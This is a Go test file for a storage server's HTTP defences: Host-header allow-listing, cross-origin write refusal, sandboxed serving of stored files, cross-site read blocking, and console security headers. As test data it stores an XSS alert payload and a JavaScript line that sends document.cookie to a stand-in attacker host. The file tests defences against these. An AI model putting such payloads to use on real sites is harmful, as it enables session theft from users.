package server

import (
	"encoding/json"
	"io"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/cairnstore/cairn/api/console"
	"github.com/cairnstore/cairn/ops"
)

// send sends one request with headers to base+path and returns status, header and body.
func send(t *testing.T, method, url string, header map[string]string, body string) (int, http.Header, []byte) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range header {
		if k == "Host" {
			req.Host = v
			continue
		}
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header, b
}

func wantForbidden(t *testing.T, what string, code int, body []byte, field string) {
	t.Helper()
	var e struct {
		Code    string         `json:"code"`
		Details map[string]any `json:"details"`
	}
	if code != http.StatusForbidden || json.Unmarshal(body, &e) != nil || e.Code != "InvalidArguments" || e.Details["field"] != field {
		t.Errorf("%s: got %d %s, want 403 InvalidArguments naming %s", what, code, body, field)
	}
}

func TestTheClientListenerAnswersOnlyItsOwnHostNames(t *testing.T) {
	cfg := testConfig(t)
	cfg.AllowedHosts = "cairn.example"
	_, base := serveNode(t, cfg)
	port := base[strings.LastIndexByte(base, ':')+1:]
	mcpCall := `{"jsonrpc":"2.0","id":1,"method":"tools/list"}`
	mcpHeaders := func(host string) map[string]string {
		return map[string]string{"Host": host, "Content-Type": "application/json", "Accept": "application/json, text/event-stream"}
	}
	for _, host := range []string{"evil.example", "evil.example:" + port, "127.0.0.1.evil.example"} {
		code, _, b := send(t, http.MethodGet, base+"/v1/agents/a/workbenches/w", map[string]string{"Host": host}, "")
		wantForbidden(t, "REST with Host "+host, code, b, "Host")
		code, _, b = send(t, http.MethodPost, base+"/mcp", mcpHeaders(host), mcpCall)
		wantForbidden(t, "MCP with Host "+host, code, b, "Host")
	}
	for _, host := range []string{"127.0.0.1:" + port, "localhost:" + port, "[::1]:" + port, "cairn.example", "cairn.example:" + port} {
		if code, _, b := send(t, http.MethodGet, base+"/healthz", map[string]string{"Host": host}, ""); code != http.StatusOK {
			t.Errorf("REST with Host %s: %d %s, want 200", host, code, b)
		}
		if code, _, b := send(t, http.MethodPost, base+"/mcp", mcpHeaders(host), mcpCall); code != http.StatusOK {
			t.Errorf("MCP with Host %s: %d %s, want 200", host, code, b)
		}
	}
}

func TestCrossOriginStateChangesAreRefused(t *testing.T) {
	_, base := serveNode(t, testConfig(t))
	file := base + "/v1/agents/a/workbenches/w/files/input/notes.txt"
	if code, _, b := send(t, http.MethodPut, file, nil, "hello"); code != http.StatusCreated {
		t.Fatalf("put: %d %s", code, b)
	}
	crossSite := map[string]string{"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site", "Content-Type": "text/plain"}
	originOnly := map[string]string{"Origin": "http://evil.example", "Content-Type": "text/plain"}
	for _, tc := range []struct {
		name, method, path, body string
	}{
		{"an append", http.MethodPost, "/v1/agents/a/workbenches/w/files/input/notes.txt?append", " world"},
		{"a put", http.MethodPut, "/v1/agents/a/workbenches/w/files/input/notes.txt", "bye"},
		{"a snapshot", http.MethodPost, "/v1/agents/a/workbenches/w/snapshots", `{"name":"s"}`},
		{"a commit", http.MethodPost, "/v1/agents/a/workbenches/w/commit", `{}`},
		{"a restore", http.MethodPost, "/v1/agents/a/workbenches/w/restore", `{}`},
		{"an MCP call", http.MethodPost, "/mcp", `{"jsonrpc":"2.0","id":1,"method":"tools/list"}`},
	} {
		// The refusal names the header the check judged: Sec-Fetch-Site when the browser sent it.
		for name, h := range map[string]map[string]string{"Sec-Fetch-Site cross-site": crossSite, "a foreign Origin": originOnly} {
			code, _, b := send(t, tc.method, base+tc.path, h, tc.body)
			wantForbidden(t, tc.name+" with "+name, code, b, map[bool]string{true: "Sec-Fetch-Site", false: "Origin"}[h["Sec-Fetch-Site"] != ""])
		}
	}
	if _, _, b := send(t, http.MethodGet, file, nil, ""); string(b) != "hello" {
		t.Fatalf("the file after refused cross-origin writes: %q, want it unchanged", b)
	}
	sameOrigin := map[string]string{"Origin": base, "Sec-Fetch-Site": "same-origin", "Content-Type": "text/plain"}
	if code, _, b := send(t, http.MethodPost, file+"?append", sameOrigin, " world"); code != http.StatusOK {
		t.Fatalf("a same-origin append: %d %s", code, b)
	}
}

func TestStoredContentIsServedInert(t *testing.T) {
	_, base := serveNode(t, testConfig(t))
	dir := base + "/v1/agents/a/workbenches/w/files/outputs/"
	for name, ct := range map[string]string{"page.html": "text/html; charset=utf-8", "pic.svg": "image/svg+xml", "app.js": "text/javascript", "notes.txt": "text/plain"} {
		if code, _, b := send(t, http.MethodPut, dir+name, map[string]string{"Content-Type": ct}, "<script>alert(1)</script>"); code != http.StatusCreated {
			t.Fatalf("put %s: %d %s", name, code, b)
		}
	}
	for _, tc := range []struct {
		name, query, disposition string
	}{
		{"page.html", "", `attachment; filename=page.html`},
		{"pic.svg", "", `attachment; filename=pic.svg`},
		{"app.js", "", `attachment; filename=app.js`},
		{"page.html", "?disposition=inline", ""},
		{"notes.txt", "", ""},
	} {
		code, h, _ := send(t, http.MethodGet, dir+tc.name+tc.query, nil, "")
		if code != http.StatusOK || h.Get("Content-Security-Policy") != "sandbox" || h.Get("X-Content-Type-Options") != "nosniff" ||
			h.Get("Content-Disposition") != tc.disposition {
			t.Errorf("GET %s%s: %d, CSP %q, nosniff %q, Content-Disposition %q; want 200, sandbox, nosniff, %q", tc.name, tc.query, code,
				h.Get("Content-Security-Policy"), h.Get("X-Content-Type-Options"), h.Get("Content-Disposition"), tc.disposition)
		}
	}
	code, _, b := send(t, http.MethodGet, dir+"page.html?disposition=open", nil, "")
	var e struct {
		Code    string         `json:"code"`
		Details map[string]any `json:"details"`
	}
	if code != http.StatusBadRequest || json.Unmarshal(b, &e) != nil || e.Details["field"] != "disposition" {
		t.Errorf("an unknown disposition: %d %s, want 400 naming disposition", code, b)
	}
}

// TestCrossSiteReadsOfStoredBytesAreRefused (issue 25): on the keyless loopback default, a
// stored text/javascript body is not handed to another site's <script src>: every route
// that serves stored bytes refuses a read marked Sec-Fetch-Site: cross-site with the
// surface's 403, and a body carries Cross-Origin-Resource-Policy: same-origin for the
// browsers that send no Fetch Metadata.
func TestCrossSiteReadsOfStoredBytesAreRefused(t *testing.T) {
	cfg := testConfig(t)
	_, base := serveNode(t, cfg)
	const js = "fetch('https://evil.example/?'+document.cookie)"
	wb := base + "/v1/agents/a/workbenches/w"
	code, _, b := send(t, http.MethodPut, wb+"/files/input/app.js", map[string]string{"Content-Type": "text/javascript"}, js)
	if code != http.StatusCreated {
		t.Fatalf("put: %d %s", code, b)
	}
	var put struct{ Generation uint64 }
	if err := json.Unmarshal(b, &put); err != nil || put.Generation == 0 {
		t.Fatalf("put answer %s", b)
	}
	if code, _, b := send(t, http.MethodPost, wb+"/snapshots", nil, `{"name":"s1"}`); code != http.StatusCreated {
		t.Fatalf("snapshot: %d %s", code, b)
	}
	if code, _, b := send(t, http.MethodPut, base+"/v1/host/workspace/files/app.js", map[string]string{"Content-Type": "application/json"},
		`{"content":"`+js+`"}`); code != http.StatusOK {
		t.Fatalf("OpenWOP put: %d %s", code, b)
	}
	crossSite := map[string]string{"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Dest": "script", "Sec-Fetch-Mode": "no-cors"}
	reads := []struct{ name, method, url string }{
		{"a file", http.MethodGet, wb + "/files/input/app.js"},
		{"a file's head", http.MethodHead, wb + "/files/input/app.js"},
		{"a file inline", http.MethodGet, wb + "/files/input/app.js?disposition=inline"},
		{"a file at a snapshot", http.MethodGet, wb + "/files/input/app.js?at_snapshot=s1"},
		{"a file's generation", http.MethodGet, wb + "/files/input/app.js?generation=" + strconv.FormatUint(put.Generation, 10)},
		{"a diff", http.MethodGet, wb + "/diff?path=input/app.js&from=snapshot:s1&to=live"},
		{"a history", http.MethodGet, wb + "/history?path=input/app.js"},
	}
	for _, rd := range reads {
		code, hd, b := send(t, rd.method, rd.url, nil, "")
		if code != http.StatusOK || hd.Get("Cross-Origin-Resource-Policy") != "same-origin" {
			t.Errorf("%s, same-site: %d, Cross-Origin-Resource-Policy %q: %.200s", rd.name, code, hd.Get("Cross-Origin-Resource-Policy"), b)
		}
		code, _, b = send(t, rd.method, rd.url, crossSite, "")
		if rd.method == http.MethodHead {
			if code != http.StatusForbidden {
				t.Errorf("%s, cross-site: %d, want 403", rd.name, code)
			}
			continue
		}
		wantForbidden(t, rd.name+", cross-site", code, b, "Sec-Fetch-Site")
	}
	code, hd, b := send(t, http.MethodGet, base+"/v1/host/workspace/files/app.js", crossSite, "")
	var env map[string]any
	if code != http.StatusForbidden || json.Unmarshal(b, &env) != nil || env["error"] != "forbidden" || strings.Contains(string(b), js) {
		t.Errorf("OpenWOP file, cross-site: %d %s, want 403 with OpenWOP's forbidden envelope", code, b)
	}
	if hd.Get("Cross-Origin-Resource-Policy") != "same-origin" {
		t.Errorf("OpenWOP file: Cross-Origin-Resource-Policy %q", hd.Get("Cross-Origin-Resource-Policy"))
	}
	if code, _, b := send(t, http.MethodGet, wb+"/files/input/app.js", map[string]string{"Sec-Fetch-Site": "same-origin"}, ""); code != http.StatusOK || string(b) != js {
		t.Errorf("a same-origin read: %d %q", code, b)
	}
	if code, _, _ := send(t, http.MethodGet, base+"/healthz", crossSite, ""); code != http.StatusOK {
		t.Errorf("the probe, cross-site: %d, want 200", code)
	}
}

// The console's security headers are on every answer to a console path, the guard's and
// authentication's refusals too, not only on the console's own answers.
func TestConsoleRefusalsCarryItsSecurityHeaders(t *testing.T) {
	cfg := testConfig(t)
	cfg.Auth = ops.AuthRequired
	_, base := serveNode(t, cfg)
	for _, tc := range []struct {
		what   string
		path   string
		header map[string]string
		status int
	}{
		{"a session without a key", "/ui/session", nil, http.StatusUnauthorized},
		{"a session with a bad key", "/ui/session", map[string]string{"Authorization": "Bearer x"}, http.StatusUnauthorized},
		{"a cross-site read", "/ui/", map[string]string{"Sec-Fetch-Site": "cross-site"}, http.StatusForbidden},
		{"another Host", "/ui/", map[string]string{"Host": "evil.example"}, http.StatusForbidden},
		{"the console's page", "/ui/", nil, http.StatusOK},
	} {
		code, h, b := send(t, http.MethodGet, base+tc.path, tc.header, "")
		if code != tc.status || h.Get("Content-Security-Policy") != console.SecurityPolicy ||
			h.Get("X-Frame-Options") != "DENY" || h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: %d with CSP %q, X-Frame-Options %q, nosniff %q (%s); want %d with the console's headers",
				tc.what, code, h.Get("Content-Security-Policy"), h.Get("X-Frame-Options"), h.Get("X-Content-Type-Options"), b, tc.status)
		}
	}
	// A path outside the console gets none of them.
	if _, h, _ := send(t, http.MethodGet, base+"/v1/agents/a/workbenches", nil, ""); h.Get("Content-Security-Policy") == console.SecurityPolicy {
		t.Error("a REST answer carries the console's Content-Security-Policy")
	}
}
